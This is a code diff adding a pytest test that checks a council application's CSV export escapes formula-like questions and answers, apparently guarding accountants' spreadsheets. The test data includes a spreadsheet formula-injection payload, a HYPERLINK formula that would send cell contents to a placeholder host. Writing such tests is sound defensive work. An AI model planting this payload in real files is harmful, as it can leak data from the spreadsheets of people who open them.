@@ -144,3 +144,25 @@ def test_het_publiek_krijgt_geen_concept(demo):
         assert _ids(rijen, "raden.stemming") == publiek
         statussen = {r["nieuw"] for r in rijen if r["tabel"] == "programma.jaarprogramma"}
         assert "concept" not in statussen
+
+
+def test_vrije_tekst_wordt_geen_formule(demo):
+    """A raadslid's question that looks like a formula reaches the accountants' file as text."""
+    from raden import services as raden
+
+    po = (
+        ProgrammaOpgave.objects.filter(
+            opgave__slug="energietransitie", versie__jaarprogramma__jaar=2027
+        )
+        .order_by("-versie__nummer")
+        .first()
+    )
+    formule = '=HYPERLINK("http://x/?"&A1;"klik")'
+    vraag = raden.stel_vraag(
+        programma_opgave=po, tekst=formule, acting_user=_user("raadslid-arnhem")
+    )
+    raden.beantwoord_vraag(vraag=vraag, antwoord="@nee", acting_user=_user("programmabureau"))
+    rijen = _csv(2027)
+    cellen = {r["nieuw"] for r in rijen if r["tabel"] == "raden.vraag"}
+    assert "'" + formule in cellen and "'@nee" in cellen
+    assert not any(c.startswith(("=", "@")) for r in rijen for c in r.values())
